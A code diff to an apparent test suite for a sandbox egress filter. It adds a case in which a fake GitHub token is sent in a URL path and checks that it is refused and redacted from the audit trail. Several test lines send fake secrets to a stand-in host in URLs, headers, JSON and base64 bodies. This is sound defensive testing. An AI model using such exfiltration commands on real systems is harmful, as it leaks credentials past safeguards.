@@ -18,6 +18,7 @@ interface Seen {
 
 /** Built at run time, never written out whole: fake secrets of the shapes DLP knows. */
 const fakeAwsKey = () => ['AKIA', 'Q3EXAMPLE', 'Z7TESTKEY'].join('').slice(0, 20);
+const fakeGithubToken = () => ['ghp', '_', 'R4nd0mT0k3nF0rTh3Aud1tTr41lXyZ', '0a1b2c'].join('');
 const REAL_KEY = ['sk-ant-real', Math.random().toString(36).slice(2), 'do-not-leak'].join('-');
 
 describe.skipIf(!dockerAvailable)('egress from inside a bottle', () => {
@@ -81,6 +82,7 @@ describe.skipIf(!dockerAvailable)('egress from inside a bottle', () => {
       code('placeholder-elsewhere', `-H "x-api-key: $TEST_API_KEY" https://other.example.test/placeholder`),
       code('real-key-elsewhere', `-H 'authorization: Bearer ${REAL_KEY}' https://other.example.test/realkey`),
       code('secret-in-url', `'https://other.example.test/q?key=${aws}'`),
+      code('secret-in-path', `'http://other.example.test/repos/${fakeGithubToken()}/x'`),
       code('secret-in-header', `-H 'x-note: ${aws}' https://other.example.test/hdr`),
       code('secret-in-json', `-H 'content-type: application/json' -d '{"k":"${aws}"}' https://other.example.test/json`),
       code('secret-in-base64', `-d "$(printf '%s' 'aws=${aws}' | base64 -w0)" https://other.example.test/b64`),
@@ -138,6 +140,7 @@ describe.skipIf(!dockerAvailable)('egress from inside a bottle', () => {
   it('refuses secrets in the URL, a header, a JSON body and a base64 body; lets clean traffic through', () => {
     // Over HTTPS: the CONNECT succeeds (200), the request inside is refused (403).
     for (const k of ['secret-in-url', 'secret-in-header', 'secret-in-json', 'secret-in-base64']) expect(out.get(k), k).toBe('403/200');
+    expect(out.get('secret-in-path')).toBe('403/000');
     expect(out.get('clean-elsewhere')).toBe('200/200');
     expect(seen.map((s) => s.url)).not.toEqual(expect.arrayContaining(['/hdr']));
     expect(dlp().length).toBeGreaterThanOrEqual(4);
@@ -150,6 +153,13 @@ describe.skipIf(!dockerAvailable)('egress from inside a bottle', () => {
     expect(stdout).not.toContain(REAL_KEY);
     expect(JSON.stringify(audit)).not.toContain(REAL_KEY);
     expect(JSON.stringify(audit)).not.toContain(fakeAwsKey());
+  });
+
+  it('keeps no refused secret in the audit trail: the rule and a short hash stand for it', () => {
+    const text = JSON.stringify(audit);
+    expect(text).not.toContain(fakeGithubToken());
+    expect(text).not.toContain(fakeGithubToken().slice(4, 24));
+    expect(text).toMatch(/\[REDACTED:github[^:\]]*:[0-9a-f]{8}\]/);
   });
 
   it('leaves nothing behind', () => {
